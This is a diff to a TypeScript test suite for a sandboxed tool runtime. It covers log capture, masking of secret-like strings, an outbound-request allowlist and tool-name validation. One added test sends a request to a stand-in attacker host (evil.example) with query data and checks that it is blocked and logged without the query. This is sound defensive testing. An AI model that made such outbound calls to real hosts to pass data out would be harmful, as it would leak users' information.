@@ -63,11 +63,11 @@ interface tool {
 }
 world sandboxed-tool { import host; export tool; }`
 
-const lines: { level: string; tool: unknown; message: string }[] = []
+const lines: { level: string; tool: unknown; fields: object; message: string }[] = []
 const write =
   (level: string) =>
   (fields: object, message: string): number =>
-    lines.push({ level, tool: Reflect.get(fields, 'tool'), message })
+    lines.push({ level, tool: Reflect.get(fields, 'tool'), fields, message })
 const log: Log = { debug: write('debug'), info: write('info'), warn: write('warn'), error: write('error') }
 const secrets: Record<string, string> = {}
 const rig = createRig({
@@ -198,7 +198,22 @@ test('a secret can be tested for only by the names in the file; another name war
 test('log lines reach the service log after the call, with the tool, masked', async () => {
   const [tool] = await make({})
   await run(tool, { do: 'log', text: `hello sk-${'a'.repeat(30)}` })
-  assert.deepEqual(lines.at(-1), { level: 'info', tool: 'probe', message: 'hello ***' })
+  const { level, tool: by, message } = lines.at(-1) ?? {}
+  assert.deepEqual({ level, by, message }, { level: 'info', by: 'probe', message: 'hello ***' })
+})
+
+test('a request that was not done is in the service log, without its query', async () => {
+  const [tool] = await make({ http: anyPlace.http })
+  await assert.rejects(run(tool, { url: 'https://evil.example/y?said=this#or-that' }))
+  const line = lines.at(-1)
+  assert.deepEqual([line?.level, line?.tool], ['warn', 'probe'])
+  assert.deepEqual(line?.fields, {
+    tool: 'probe',
+    callId: 'call_1',
+    method: 'GET',
+    url: 'https://evil.example/y',
+    reason: 'the host evil.example is not in the allowlist',
+  })
 })
 
 test('the workspace and other tools are denied unless the file grants them', async () => {
@@ -259,7 +274,24 @@ test('a test call tells output, error, logs, requests and what was blocked', asy
 
 test('names', () => {
   assert.equal(toolNameFault('weather'), undefined)
-  for (const name of ['', '1a', 'a b', 'a.b', 'x'.repeat(65), 'memory_x', 'skill_y', 'mission_z'])
+  for (const [name, id] of [
+    ['memory', 'write'],
+    ['Memory', 'x'],
+    ['skill', 'a'],
+  ] as const)
+    assert.match(toolNameFault(name, [{ id }]) ?? '', /reserved/, name)
+  for (const name of [
+    'Memory_x',
+    'memory-x',
+    '',
+    '1a',
+    'a b',
+    'a.b',
+    'x'.repeat(65),
+    'memory_x',
+    'skill_y',
+    'mission_z',
+  ])
     assert.equal(typeof toolNameFault(name), 'string', name)
   assert.match(toolNameFault('x'.repeat(40), [{ id: 'y'.repeat(40) }]) ?? '', /longer than 64/)
 })
